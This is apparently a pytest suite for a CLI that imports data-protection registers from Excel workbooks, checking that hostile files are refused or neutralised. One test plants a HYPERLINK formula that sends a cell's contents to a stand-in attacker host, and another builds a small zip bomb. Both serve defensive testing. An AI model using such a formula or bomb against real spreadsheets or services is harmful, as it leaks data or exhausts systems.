"""Workbooks as untrusted input: refused in bounded time and memory, with a message that
names the file; formulas read as cached values, never evaluated; macros and links ignored."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
from ico_workbook import build

from ropa.cli import main
from ropa.importer import workbook


def _import(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(["import", *args])
    out, err = capsys.readouterr()
    return code, out, err


def _rezip(source: Path, target: Path, replace: dict[str, bytes], level: int = 6) -> Path:
    """A copy of `source` with some parts replaced or added."""
    with (
        zipfile.ZipFile(source) as original,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as copy,
    ):
        for info in original.infolist():
            if info.filename not in replace:
                copy.writestr(info, original.read(info.filename))
        for name, payload in replace.items():
            copy.writestr(name, payload)
    return target


def test_not_a_workbook(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = tmp_path / "register.xlsx"
    text.write_text("activity;purpose\n", "utf-8")
    code, _, err = _import(capsys, str(text), "-o", str(tmp_path / "out"))
    assert code == 2
    assert err == f"ropa: {text}: is not an .xlsx workbook (not a zip file); save it as .xlsx\n"
    assert not (tmp_path / "out").exists()


def test_old_excel_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    old = tmp_path / "register.xls"
    old.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512))
    code, _, err = _import(capsys, str(old), "-o", str(tmp_path / "out"))
    assert code == 2
    assert "is an Excel 97-2003 (.xls) file or encrypted; save it as .xlsx" in err


def test_truncated_workbook(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    whole = build(tmp_path / "whole.xlsx")
    cut = tmp_path / "cut.xlsx"
    cut.write_bytes(whole.read_bytes()[:1500])
    code, _, err = _import(capsys, str(cut), "-o", str(tmp_path / "out"))
    assert code == 2
    assert err.startswith(f"ropa: {cut}: is not a readable .xlsx workbook")
    assert "Traceback" not in err


def test_missing_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = _import(capsys, str(tmp_path / "nowhere.xlsx"), "-o", str(tmp_path / "out"))
    assert code == 2
    assert err.startswith(f"ropa: {tmp_path / 'nowhere.xlsx'}: cannot read it")


def test_over_50_mb(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    big = tmp_path / "big.xlsx"
    with big.open("wb") as handle:
        handle.write(b"PK\x03\x04")
        handle.truncate(51 * 1024 * 1024)  # sparse: costs no disk
    code, _, err = _import(capsys, str(big), "-o", str(tmp_path / "out"))
    assert code == 2
    assert err == f"ropa: {big}: the file is 51 MB; refusing workbooks over 50 MB\n"


def test_zip_bomb(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bomb = _rezip(
        build(tmp_path / "base.xlsx"),
        tmp_path / "bomb.xlsx",
        {"xl/media/filler.bin": bytes(24 * 1024 * 1024)},
        level=9,
    )
    assert bomb.stat().st_size < 1024 * 1024
    code, _, err = _import(capsys, str(bomb), "-o", str(tmp_path / "out"))
    assert code == 2
    assert err == (
        f"ropa: {bomb}: the part xl/media/filler.bin inflates more than 200 times "
        "(a zip bomb?); refusing it\n"
    )


def test_declared_size_over_the_bound(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(workbook, "MAX_UNCOMPRESSED_BYTES", 1024 * 1024)
    book = _rezip(
        build(tmp_path / "base.xlsx"),
        tmp_path / "large.xlsx",
        {"xl/media/a.bin": bytes(2 * 1024 * 1024)},
    )
    code, _, err = _import(capsys, str(book), "-o", str(tmp_path / "out"))
    assert code == 2
    assert "the workbook would unpack to 2 MB; refusing more than 1 MB (a zip bomb?)" in err


def test_more_than_100000_rows(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rows = b"".join(
        b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>x</t></is></c></row>' % (n, n)
        for n in range(1, 100_002)
    )
    sheet = (
        b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + rows
        + b"</sheetData></worksheet>"
    )
    tall = _rezip(
        build(tmp_path / "base.xlsx"), tmp_path / "tall.xlsx", {"xl/worksheets/sheet1.xml": sheet}
    )
    code, _, err = _import(capsys, str(tall), "-o", str(tmp_path / "out"))
    assert code == 2
    assert err == (
        f"ropa: {tall}: the sheet xl/worksheets/sheet1.xml has more than 100,000 rows; "
        "a register that long cannot be imported, split it\n"
    )


def test_no_register_layout(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from openpyxl import Workbook

    book = Workbook()
    book.active["A1"] = "Shopping list"
    book.active["A2"] = "Milk"
    path = tmp_path / "list.xlsx"
    book.save(path)
    code, _, err = _import(capsys, str(path), "-o", str(tmp_path / "out"))
    assert code == 2
    assert err.startswith(
        f"ropa: {path}: no register layout found: no sheet has a header row matching"
    )
    assert "--layout columns --map MAP.toml" in err
    assert not (tmp_path / "out").exists()


def test_formulas_are_read_as_cached_values_and_said(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from openpyxl import load_workbook

    path = build(tmp_path / "formula.xlsx")
    book = load_workbook(path)
    sheet = book["Controller"]
    sheet["J12"] = '=HYPERLINK("http://attacker.example/?"&B12, "3 years")'
    book.save(path)
    # openpyxl saves no cached value: the cell reads as empty, and is never computed
    code, _, _ = _import(capsys, str(path), "-o", str(tmp_path / "out"))
    assert code == 0
    report = (tmp_path / "out" / "IMPORT-REPORT.md").read_text("utf-8")
    assert (
        "| formula.xlsx | Controller!J12 | 1 cell holds a formula: the value the spreadsheet "
        "program last saved was read; no formula was evaluated |" in report
    )
    assert "attacker" not in "".join(
        p.read_text("utf-8") for p in (tmp_path / "out").rglob("*.yaml")
    )


def test_a_formula_gives_its_cached_value(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import re

    base = build(tmp_path / "base.xlsx")
    with zipfile.ZipFile(base) as archive:
        sheet = archive.read("xl/worksheets/sheet2.xml").decode()
    cell = '<c r="J13" t="str"><f>CONCATENATE("7 years"," after employment ends")</f><v>7 years after employment ends</v></c>'
    sheet, count = re.subn(r'<c r="J13"[^>]*>.*?</c>', cell, sheet)
    assert count == 1
    path = _rezip(base, tmp_path / "cached.xlsx", {"xl/worksheets/sheet2.xml": sheet.encode()})
    code, _, _ = _import(capsys, str(path), "-o", str(tmp_path / "out"))
    assert code == 0
    payroll = (
        tmp_path / "out" / "activities" / "4-paying-staff-and-meeting-our-duties.yaml"
    ).read_text("utf-8")
    assert "period: P7Y\n      from: employment ends" in payroll
    assert "CONCATENATE" not in payroll


def test_macros_and_external_links_are_ignored(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _rezip(
        build(tmp_path / "base.xlsx"),
        tmp_path / "macro.xlsx",
        {
            "xl/vbaProject.bin": b"\x00macro",
            "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
        },
    )
    code, _, _ = _import(capsys, str(path), "-o", str(tmp_path / "out"))
    assert code == 0
    report = (tmp_path / "out" / "IMPORT-REPORT.md").read_text("utf-8")
    assert "the workbook holds macros: ignored, never run" in report
    assert "links to other workbooks: ignored, nothing was fetched" in report


def test_a_folder_holding_yaml_is_refused_without_force(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = build(tmp_path / "register.xlsx")
    target = tmp_path / "registry"
    (target / "activities").mkdir(parents=True)
    (target / "activities" / "old.yaml").write_text("activities: []\n", "utf-8")
    (target / "README.md").write_text("our notes\n", "utf-8")
    code, _, err = _import(capsys, str(path), "-o", str(target))
    assert code == 2
    assert (
        err
        == f"ropa: {target} already holds YAML files: choose another -o, or --force to replace them\n"
    )
    code, out, _ = _import(capsys, str(path), "-o", str(target), "--force")
    assert code == 0
    assert not (target / "activities" / "old.yaml").exists()
    assert (target / "README.md").read_text("utf-8") == "our notes\n"
    assert (target / "organization.yaml").exists()
    assert out.startswith(f"wrote {target}/: 5 activities")
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".registry.")]


def test_bad_mapping_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = build(tmp_path / "register.xlsx")
    mapping = tmp_path / "map.toml"
    mapping.write_text(
        '[layout]\nname = "mine"\n[[column]]\nfield = "purpose"\ntitles = ["Purpose"]\n', "utf-8"
    )
    code, _, err = _import(
        capsys, str(path), "--layout", "columns", "--map", str(mapping), "-o", str(tmp_path / "out")
    )
    assert code == 2
    assert err.startswith(
        f"ropa: {mapping}: [[column]] number 1: field 'purpose' is not one of: name, owner,"
    )
    code, _, err = _import(capsys, str(path), "--layout", "columns", "-o", str(tmp_path / "out"))
    assert code == 2
    assert (
        err
        == "ropa: --layout columns needs --map MAP.toml (see the shipped ico.toml for the format)\n"
    )
